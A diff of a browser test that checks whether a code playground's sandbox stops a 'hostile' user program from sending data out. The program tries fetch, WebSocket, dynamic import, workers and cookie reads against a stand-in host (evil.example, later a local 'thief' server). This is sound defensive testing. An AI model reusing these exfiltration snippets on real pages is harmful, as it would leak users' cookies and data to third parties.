@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { openBrowser, openPage } from './browser.ts'
@@ -17,7 +20,7 @@ afterAll(async () => {
 /** What a stranger may have written into an address: each line says what it got. */
 const hostile = `
 const tried: Record<string, () => unknown> = {
-  fetch: () => fetch('https://evil.example/?stolen'),
+  fetch: () => fetch(EVIL + '/?stolen'),
   XMLHttpRequest: () => new Promise((resolve, reject) => {
     const request = new XMLHttpRequest()
     request.onload = resolve
@@ -26,14 +29,14 @@ const tried: Record<string, () => unknown> = {
     request.send()
   }),
   WebSocket: () => new Promise((resolve, reject) => {
-    const socket = new WebSocket('wss://evil.example/')
+    const socket = new WebSocket(EVIL.replace('http', 'ws'))
     socket.onopen = resolve
     socket.onerror = () => reject(new Error('refused'))
   }),
-  import: () => import('https://evil.example/module.js'),
+  import: () => import(EVIL + '/module.js'),
   importScripts: () => (globalThis as any).importScripts(ORIGIN + '/sealed/city.js?stolen'),
   'a worker': () => new Promise((resolve, reject) => {
-    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/').then(() => postMessage('got'), () => postMessage(''))"])))
+    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "').then(() => postMessage('got'), () => postMessage(''))"])))
     worker.onmessage = ({ data }) => data === 'got' ? resolve(data) : reject(new Error('refused'))
   }),
   cookies: () => document.cookie,
@@ -75,8 +78,17 @@ async function runHere(page: Page, code: string): Promise<void> {
 }
 
 test('a program runs in the page, is shared by address, and sends nothing, however it tries', async () => {
-  const { page, strangers, faults } = await openPage(browser, portal.origin)
-  const sent: string[] = []
+  const { page, faults } = await openPage(browser, portal.origin)
+  /** Whatever reaches it has left the page. What a policy refuses, the browser tells of as a request all the same. */
+  const stolen: string[] = []
+  const thief = createServer(({ url = '' }, response) => {
+    stolen.push(url)
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end()
+  }).listen(0, 'localhost')
+  await once(thief, 'listening')
+  // Listens on TCP.
+  const { port } = thief.address() as AddressInfo
+  const answered: string[] = []
   await page.goto('/playground/')
   const status = page.getByRole('status')
   await page.getByRole('textbox', { name: 'Your program' }).first().waitFor()
@@ -89,16 +101,18 @@ test('a program runs in the page, is shared by address, and sends nothing, howev
   await page.reload()
   await page.getByRole('textbox', { name: 'Your program' }).filter({ hasText: 'createClient' }).first().waitFor()
 
-  await runHere(page, hostile.replaceAll('ORIGIN', JSON.stringify(portal.origin)))
-  page.on('request', (request) => sent.push(request.url()))
-  page.context().on('request', (request) => sent.push(request.url()))
+  const program = `const [ORIGIN, EVIL] = ${JSON.stringify([portal.origin, `http://localhost:${port}`])}\n${hostile}`
+  await runHere(page, program)
+  page.context().on('response', (response) => answered.push(response.url()))
   await status.filter({ hasText: /^Ended/ }).waitFor()
   const lines = await printed(page)
   expect(lines.filter((line) => line.includes('GOT IT'))).toEqual([])
   expect([lines[0], lines.at(-1), lines.length]).toEqual(['null', 'all tried', 14])
-  // The frame and the worker are the page's own; nothing else was asked for while it ran.
-  expect(sent.filter((url) => !/\/sealed\/(?:frame\.html|city\.js)$|^blob:|\/addresses\.json$/.test(url))).toEqual([])
-  expect(strangers).toEqual([])
+  thief.close()
+  expect(stolen).toEqual([])
+  // The frame and the worker are the page's own; nothing else was answered while it ran.
+  const own = /\/sealed\/(?:frame\.html|city\.js)$|^blob:|\/(?:addresses\.json|favicon\.svg)$/
+  expect(answered.filter((url) => !own.test(url))).toEqual([])
   // What is refused, the browser says.
   expect(faults.filter((fault) => !/Content Security Policy|Refused|violates/i.test(fault))).toEqual([])
 
